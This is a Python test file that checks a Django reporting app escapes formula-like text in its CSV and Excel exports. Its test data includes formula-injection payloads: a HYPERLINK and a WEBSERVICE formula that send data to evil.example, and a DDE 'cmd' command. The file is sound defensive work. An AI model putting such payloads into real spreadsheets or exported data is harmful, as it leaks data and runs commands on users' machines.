"""No file the app writes makes a spreadsheet run a formula: a text cell that begins with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return is escaped in every CSV (the summary, the PAR
results; the public ones in tests/publication) and stored as text in the Excel template and the
PAR scheme workbook. Each test writes the file, reads it back and looks at the cell."""

import csv
import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from cchc.dossiers import excel
from cchc.formatting import spreadsheet_text
from cchc.periods.services import period_ensure
from cchc.scores.schemes import scheme_workbook
from tests import factories
from tests.reports.test_exports import PERIOD, ke_sach_filed  # noqa: F401 - a fixture
from tests.scores.test_results import ke_sach_2024  # noqa: F401 - a fixture

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


@pytest.mark.parametrize("text", [HOSTILE, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1",
                                  "-cmd|' /C calc'!A0"])
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize("value", ["Xã An Mỹ", "-1.50", "+3", "-7", "", "31564", -4, 2.5,
                                   None, "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert spreadsheet_text(value) == value


def rename(code: str, name: str) -> None:
    unit = factories.unit(code)
    unit.name = name
    unit.save(update_fields=["name"])


def read_csv(response) -> list[dict]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(body.decode("utf-8").lstrip("\ufeff"))))


def test_the_summary_csv_writes_a_unit_named_like_a_formula_as_text(admin_client,
                                                                     ke_sach_filed):  # noqa: F811
    rename("31564", HOSTILE)
    response = admin_client.get(reverse("reports:summary_csv", args=["2008", "943", PERIOD]))
    names = {row["unit_code"]: row["unit_name"] for row in read_csv(response)}
    assert names["31564"] == "'" + HOSTILE


def test_the_par_csv_writes_a_unit_named_like_a_formula_as_text(admin_client,
                                                                 ke_sach_2024):  # noqa: F811
    rename("31564", "@SUM(1+1)*cmd")
    response = admin_client.get(reverse("scores:ranking_csv", args=["2008", "943", 2024]))
    names = {row["unit_code"]: row["unit_name"] for row in read_csv(response)}
    assert names["31564"] == "'@SUM(1+1)*cmd"
    assert all(not row["points"].startswith("'") for row in read_csv(admin_client.get(
        reverse("scores:ranking_csv", args=["2008", "943", 2024]))))


def test_the_excel_template_stores_a_unit_and_a_field_named_like_formulas_as_text():
    call_command("loaddata", "procedure_fields", verbosity=0)
    period_ensure(code="2025-Q2")
    rename("31564", HOSTILE)
    field = factories.field("ho-tich", "Hộ tịch")
    field.name = "=1+1"
    field.save(update_fields=["name"])
    out = io.BytesIO()
    excel.template_workbook(factories.unit("31564"), factories.period("2025-Q2")).save(out)
    xml = zipfile.ZipFile(io.BytesIO(out.getvalue())).read("xl/worksheets/sheet1.xml")
    # No formula in the sheet but the totals (3), (7), (11) of the template's rows.
    formulas = re.findall(rb'<c r="([A-Z]+)(\d+)"[^>]*><f>([^<]*)</f>', xml)
    assert formulas and all(column in (b"C", b"H", b"L") for column, _row, _f in formulas)
    assert all(f"={text.decode()}" == excel.total_formula(
        {b"C": "received_total", b"H": "resolved_total", b"L": "pending_total"}[column],
        int(row)) for column, row, text in formulas)
    assert xml.count(b"<f>") == len(formulas) and b"<f " not in xml
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    assert sheet[excel.UNIT_NAME_CELL].data_type == "s"
    assert sheet[excel.UNIT_NAME_CELL].value.startswith(HOSTILE)
    names = [sheet.cell(row, 2) for row in range(excel.FIRST_DATA_ROW, sheet.max_row + 1)]
    assert any(cell.value == "=1+1" and cell.data_type == "s" for cell in names)


def test_the_scheme_workbook_stores_a_criterion_titled_like_a_formula_as_text(ke_sach_2024):  # noqa: F811
    criterion = ke_sach_2024.criteria.order_by("position").first()
    criterion.title = "=WEBSERVICE(\"http://evil.example\")"
    criterion.save(update_fields=["title"])
    out = io.BytesIO()
    scheme_workbook(ke_sach_2024).save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert sheet["B2"].value == criterion.title and sheet["B2"].data_type == "s"
